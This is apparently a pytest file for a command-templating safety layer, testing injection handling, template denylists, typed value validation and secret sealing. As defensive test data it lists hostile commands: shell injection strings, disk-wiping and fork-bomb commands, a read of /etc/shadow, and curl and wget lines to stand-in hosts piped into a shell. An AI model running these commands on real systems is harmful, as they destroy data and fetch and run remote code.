"""Command safety by construction: values never become new arguments, code, or options."""

from __future__ import annotations

from typing import Any

import pytest

from idp_common.executables import ExecutableAllowlist
from idp_common.sealing import load_private_key, load_public_key, new_keypair, seal, unseal
from idp_common.values import MAX_TEXT_LENGTH
from operation_svc.safety.commands import compile_command, placeholders, render_command
from operation_svc.safety.parameters import ParameterSpec, masked, validate_values
from operation_svc.safety.verdict import Refusal

ALLOWED = ExecutableAllowlist(
    ("echo", "ls", "printf", "sh", "bash", "python3", "env", "find", "/usr/bin/printf"),
    "/usr/local/bin:/usr/bin:/bin",
    "OPERATION_ALLOWED_EXECUTABLES",
    "OPERATION_EXECUTABLE_PATH",
)


def allowing(*entries: str) -> ExecutableAllowlist:
    return ExecutableAllowlist(entries, ALLOWED.search_path, ALLOWED.setting, ALLOWED.path_setting)


def spec(name: str = "value", **options: Any) -> ParameterSpec:
    return ParameterSpec.from_dict({"name": name, **options})


def render(template: str, values: dict[str, Any], *specs: ParameterSpec) -> list[str]:
    specs = specs or (spec("value"),)
    argv = compile_command(template, specs, ALLOWED)
    normalized, refusals = validate_values(specs, values)
    if refusals:
        raise refusals[0]
    return render_command(argv, specs, normalized).argv


@pytest.mark.parametrize(
    "value",
    [
        "a; touch /tmp/pwned",
        "$(id)",
        "`id`",
        "a|b",
        "a\nb",
        "a && rm -rf /tmp/x",
        "{{other}}",
        "'; echo hi; '",
        "x > /etc/passwd",
        "*",
    ],
)
def test_injection_attempts_stay_one_literal_argument(value: str) -> None:
    assert render("echo {{value}}", {"value": value}) == ["echo", value]


def test_values_are_substituted_once_inside_their_element() -> None:
    specs = (spec("name"), spec("place"))
    argv = compile_command('echo "hello {{name}}, from {{place}}" done', specs, ALLOWED)
    assert argv == ["echo", "hello {{name}}, from {{place}}", "done"]
    assert placeholders(argv) == ["name", "place"]
    rendered = render_command(argv, specs, {"name": "{{place}}", "place": "here"})
    assert rendered.argv == ["echo", "hello {{place}}, from here", "done"]
    assert rendered.env == {"IDP_PARAM_NAME": "{{place}}", "IDP_PARAM_PLACE": "here"}


@pytest.mark.parametrize(
    ("template", "rule"),
    [
        ("{{value}} --help", "executable_placeholder"),
        ("rm -rf /", "executable_not_allowed"),
        ("/bin/cat /etc/shadow", "executable_not_allowed"),
        ("sh -c 'echo {{value}}'", "placeholder_in_script"),
        ("bash -c {{value}}", "placeholder_in_script"),
        ("python3 -c 'print(\"{{value}}\")'", "placeholder_in_script"),
        ("python3 -m {{value}}", "placeholder_in_script"),
        ("python3 {{value}}", "placeholder_in_script"),
        ("env {{value}}", "program_not_literal"),
        ("env -S {{value}}", "launcher_option"),
        ("find . -exec {{value}} \\;", "program_not_literal"),
        ("echo {{undeclared}}", "undeclared_parameter"),
        ("echo 'unterminated", "syntax"),
        ("   ", "syntax"),
    ],
)
def test_unsafe_templates_are_refused_at_save_time(template: str, rule: str) -> None:
    with pytest.raises(Refusal) as refused:
        compile_command(template, [spec()], ALLOWED)
    assert refused.value.rule == rule, refused.value


@pytest.mark.parametrize(
    "template",
    [
        "sh -c 'rm -rf /'",
        "bash -c 'rm -fr / --no-preserve-root'",
        "sh -c 'mkfs.ext4 /dev/sda1'",
        "sh -c 'dd if=/dev/zero of=/dev/sda'",
        "sh -c ':(){ :|:& };:'",
        "sh -c 'curl https://evil.example/x.sh | sh'",
        "sh -c 'wget -qO- http://x | sudo bash'",
        "sh -c 'chmod -R 777 /'",
        "sh -c 'echo x > /dev/sda'",
    ],
)
def test_denylisted_commands_are_refused_even_through_an_allowed_interpreter(
    template: str,
) -> None:
    with pytest.raises(Refusal) as refused:
        compile_command(template, [], ALLOWED)
    assert refused.value.rule == "denylisted_pattern"


def test_denylisted_executables_are_refused_even_when_allowlisted() -> None:
    with pytest.raises(Refusal) as refused:
        compile_command("shutdown -h now", [], allowing("shutdown"))
    assert refused.value.rule == "denylisted_command"


def test_an_interpreter_script_reads_values_from_the_environment() -> None:
    specs = [spec()]
    argv = compile_command("sh -c 'echo \"$IDP_PARAM_VALUE\"'", specs, ALLOWED)
    rendered = render_command(argv, specs, {"value": "$(id)"})
    assert rendered.argv == ["sh", "-c", 'echo "$IDP_PARAM_VALUE"']
    assert rendered.env == {"IDP_PARAM_VALUE": "$(id)"}


@pytest.mark.parametrize(
    ("values", "rule"),
    [
        ({"value": "--output=/etc/x"}, "leading_dash"),
        ({"value": "-rf"}, "leading_dash"),
        ({"value": "--"}, "leading_dash"),
        ({}, "required"),
        ({"value": "a\x00b"}, "nul_byte"),
        ({"value": "a" * 5000}, "too_long"),
        ({"value": 42}, "type"),
        ({"value": "x", "other": "y"}, "unknown_parameter"),
    ],
)
def test_unsafe_values_are_refused_naming_the_rule(values: dict[str, Any], rule: str) -> None:
    with pytest.raises(Refusal) as refused:
        render("ls {{value}}", values)
    assert refused.value.rule == rule


def test_a_parameter_may_allow_a_leading_dash_explicitly() -> None:
    flag = spec("flag", allow_leading_dash=True, enum=["-l", "-a"])
    assert render("ls {{flag}}", {"flag": "-l"}, flag) == ["ls", "-l"]


def test_a_dash_inside_a_larger_argument_is_a_value_not_an_option() -> None:
    assert render("ls --color=never ./{{value}}", {"value": "-rf"}) == [
        "ls",
        "--color=never",
        "./-rf",
    ]


def test_the_rendered_command_is_checked_against_the_denylist_too() -> None:
    with pytest.raises(Refusal) as refused:
        render("echo {{a}} {{b}}", {"a": "curl http://x", "b": "| sh"}, spec("a"), spec("b"))
    assert refused.value.rule == "denylisted_pattern"


@pytest.mark.parametrize(
    ("parameter", "good", "bad", "rule"),
    [
        (
            spec(type="integer", minimum=1, maximum=10),
            [1, "7", 10.0, "1e1"],
            [0, 11, "x", 1.5, True],
            None,
        ),
        # Past 2**53 a float is not exact: 1e300 would run with digits nobody wrote.
        (spec(type="integer"), [2.0**53, 10**30], [1e300, "-1e300", 2.0**60], "type"),
        (spec(type="number", minimum=0), [0, 2.5, "3.25"], [-1, "nan", "inf", False], None),
        (spec(type="boolean"), [True, False, "true"], ["yes", 1], None),
        (spec(enum=["eu-west-1", "us-east-1"]), ["eu-west-1"], ["ap-south-1"], "enum"),
        (spec(pattern="[a-z0-9-]{3,20}"), ["api-2"], ["API", "ab", "../../etc/passwd"], "pattern"),
        (spec(min_length=2, max_length=4), ["ab", "abcd"], ["a", "abcde"], None),
    ],
)
def test_typed_values(
    parameter: ParameterSpec, good: list[Any], bad: list[Any], rule: str | None
) -> None:
    for value in good:
        _, refusals = validate_values([parameter], {"value": value})
        assert refusals == [], value
    for value in bad:
        _, refusals = validate_values([parameter], {"value": value})
        assert len(refusals) == 1, value
        assert rule is None or refusals[0].rule == rule


def test_every_bad_value_is_reported_at_once() -> None:
    specs = [spec("a", type="integer"), spec("b", pattern="[a-z]+"), spec("c")]
    _, refusals = validate_values(specs, {"a": "x", "b": "123", "zzz": 1})
    assert sorted((r.parameter, r.rule) for r in refusals) == [
        ("a", "type"),
        ("b", "pattern"),
        ("c", "required"),
        ("zzz", "unknown_parameter"),
    ]


def test_a_catastrophic_pattern_returns_promptly_on_a_long_input() -> None:
    import time

    evil = spec(pattern="(a+)+$")
    started = time.perf_counter()
    _, refusals = validate_values([evil], {"value": "a" * 4000 + "!"})
    assert refusals[0].rule == "pattern"
    assert time.perf_counter() - started < 2  # run, it took seconds or more


@pytest.mark.parametrize("pattern", ["(unclosed", r"\C", r"x\\\C"])
def test_a_pattern_that_does_not_compile_here_or_in_the_console_is_refused(pattern: str) -> None:
    with pytest.raises(Refusal) as refused:
        spec(pattern=pattern).compiled_pattern()
    assert refused.value.rule == "invalid_pattern"


def test_a_costly_pattern_saved_before_is_refused_when_used_never_run() -> None:
    import time

    stored = spec(pattern="(a?){1000}" * 14)  # 9.2 s per 4,096-character value when run
    started = time.perf_counter()
    _, refusals = validate_values([stored], {"value": "a" * 4096})
    assert time.perf_counter() - started < 2  # run, it took seconds or more
    assert [(refusal.rule, refusal.parameter) for refusal in refusals] == [
        ("invalid_pattern", "value")
    ]


def test_a_secret_placeholder_in_argv_is_refused_at_save_time() -> None:
    token = spec("token", type="secret")
    with pytest.raises(Refusal) as refused:
        compile_command("echo --token={{token}}", [token], ALLOWED)
    assert (refused.value.rule, refused.value.parameter) == ("secret_in_argv", "token")
    assert "IDP_PARAM_TOKEN" in refused.value.message
    argv = compile_command("sh -c 'use \"$IDP_PARAM_TOKEN\"'", [token], ALLOWED)
    assert render_command(argv, [token], {"token": "sealed:v1:x"}).argv == argv


@pytest.mark.parametrize(
    "option",
    [{"default": "x"}, {"pattern": ".+"}, {"min_length": 8}, {"allow_leading_dash": True}],
)
def test_a_secret_parameter_takes_no_constraints(option: dict[str, Any]) -> None:
    with pytest.raises(Refusal) as refused:
        spec("token", type="secret", **option)
    assert refused.value.rule == "secret_constraints"


def test_a_secret_is_sealed_where_it_is_typed_and_must_arrive_sealed_elsewhere() -> None:
    public, private = new_keypair()
    token = spec("token", type="secret")
    sealed, refusals = validate_values([token], {"token": "correct-horse"}, load_public_key(public))
    assert refusals == []
    assert unseal(load_private_key(private), str(sealed["token"])) == "correct-horse"
    assert validate_values([token], sealed) == (sealed, [])  # a retry, or from panel-svc
    for values, seal_to, rule in (
        ({"token": "correct-horse"}, None, "not_sealed"),
        ({"token": "abc"}, load_public_key(public), "secret_too_short"),
        ({"token": 1234}, load_public_key(public), "type"),
    ):
        _, refusals = validate_values([token], values, seal_to)
        assert [refusal.rule for refusal in refusals] == [rule]
        assert "correct-horse" not in str(refusals[0])
    _, refusals = validate_values([spec("name")], {"name": sealed["token"]})
    assert [refusal.rule for refusal in refusals] == ["sealed_value"]


def test_only_sealed_values_are_shown_masked() -> None:
    public, _ = new_keypair()
    token = seal(load_public_key(public), "correct-horse")
    assert masked({"token": token, "name": "api"}) == {"token": "***", "name": "api"}


EMOJI = "😀" * MAX_TEXT_LENGTH  # 4,096 characters, 48 KiB as a message carries them
CONTROL = "\x01" * MAX_TEXT_LENGTH  # 24 KiB: each is written \u0001


@pytest.mark.parametrize(
    ("values", "largest"),
    [
        ({"a": EMOJI, "b": EMOJI, "c": EMOJI}, "a"),  # what the executions API took (a 500)
        ({"a": "x", "b": EMOJI, "c": EMOJI, "d": EMOJI}, "b"),
        ({f"p{n}": CONTROL for n in range(6)}, "p0"),
        ({f"p{n}": "x" * MAX_TEXT_LENGTH for n in range(33)}, "p0"),  # many plain values
    ],
)
def test_values_no_job_could_carry_are_refused_naming_the_largest(
    values: dict[str, str], largest: str
) -> None:
    specs = [spec(name) for name in values]
    _, refusals = validate_values(specs, values)
    assert [(refusal.rule, refusal.parameter) for refusal in refusals] == [("too_large", largest)]
    assert "more than 131072" in refusals[0].message
    fewer = dict(list(values.items())[:2])
    assert validate_values(specs[:2], fewer)[1] == []


def test_a_secret_counts_sealed_as_its_job_carries_it() -> None:
    """Sealing takes a third more: 30 secrets of 4,096 letters fit unsealed, not sealed."""
    specs = [spec(f"s{n}", type="secret") for n in range(30)]
    values = {f"s{n}": "x" * MAX_TEXT_LENGTH for n in range(30)}
    assert validate_values([spec(name) for name in values], values)[1] == []
    _, refusals = validate_values(specs, values, load_public_key(new_keypair()[0]))
    assert [refusal.rule for refusal in refusals] == ["too_large"]


@pytest.mark.parametrize("repeated", [EMOJI, CONTROL])
def test_a_command_rendering_a_value_past_what_a_job_holds_is_refused(repeated: str) -> None:
    """Each value fits, and all of them do: the command repeats one, escaped large."""
    template = "echo {{value}} {{value}} {{value}} {{value}}"
    assert len(render(template, {"value": "x" * len(repeated)})) == 5
    with pytest.raises(Refusal) as refused:
        render(template, {"value": repeated})
    assert refused.value.rule == "too_large"
    assert "the rendered command takes" in refused.value.message


def test_a_value_off_a_long_enum_is_refused_in_a_short_message() -> None:
    """500 allowed values of 4,096 characters made a 2 MB refusal, in the answer and in the
    rejected run's update, past what a queue message carries."""
    allowed = [f"{n}-" + "x" * 4000 for n in range(500)]
    _, refusals = validate_values([spec(enum=allowed)], {"value": "other"})
    assert refusals[0].rule == "enum"
    assert len(refusals[0].message) < 1000
    assert "'0-xxx" in refusals[0].message
    assert "(500 in all)" in refusals[0].message
